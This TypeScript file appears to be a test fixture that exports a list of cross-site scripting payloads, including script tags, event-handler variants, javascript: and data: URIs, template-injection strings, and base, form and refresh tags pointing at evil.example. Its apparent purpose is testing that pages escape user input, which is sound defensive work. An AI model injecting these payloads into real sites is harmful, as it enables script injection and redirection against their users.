const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter'];

/** What somebody would write into a name, a city or a subject to run a script on a page that shows it. */
export const SCRIPT_PAYLOADS: readonly string[] = [
	'<script>alert(1)</script>', '</script><script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</title><script>alert(1)</script>', '</style><script>alert(1)</script>',
	'</bdi><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '--><script>alert(1)</script>', '<!--', '<![CDATA[', '<?xml ?>', '</main></body></html>', '<svg><script>alert(1)</script></svg>', '<math><mi xlink:href="javascript:alert(1)">',
	'<iframe src="javascript:alert(1)">', '<a href="javascript:alert(1)">x</a>', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '<base href="https://evil.example/">', '<form action="https://evil.example/">', '<input name=task value=1>', '<button formaction=https://evil.example/>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel=stylesheet href=//evil.example/x.css>', '<object data=x>', '<embed src=x>', '<template><img>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<textarea>', '<plaintext>', '<xmp>', '<img src=x', '<<img src=x>', '<scr\u200bipt>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}', '`><script>alert(1)</script>', '\'"`><b>', '" autofocus onfocus=alert(1) x="', "' onmouseover=alert(1) '", '\u2028<b>\u2029',
	...EVENTS.flatMap((event) => [`<img src=x ${event}=alert(1)>`, `"${event}="alert(1)`]),
];
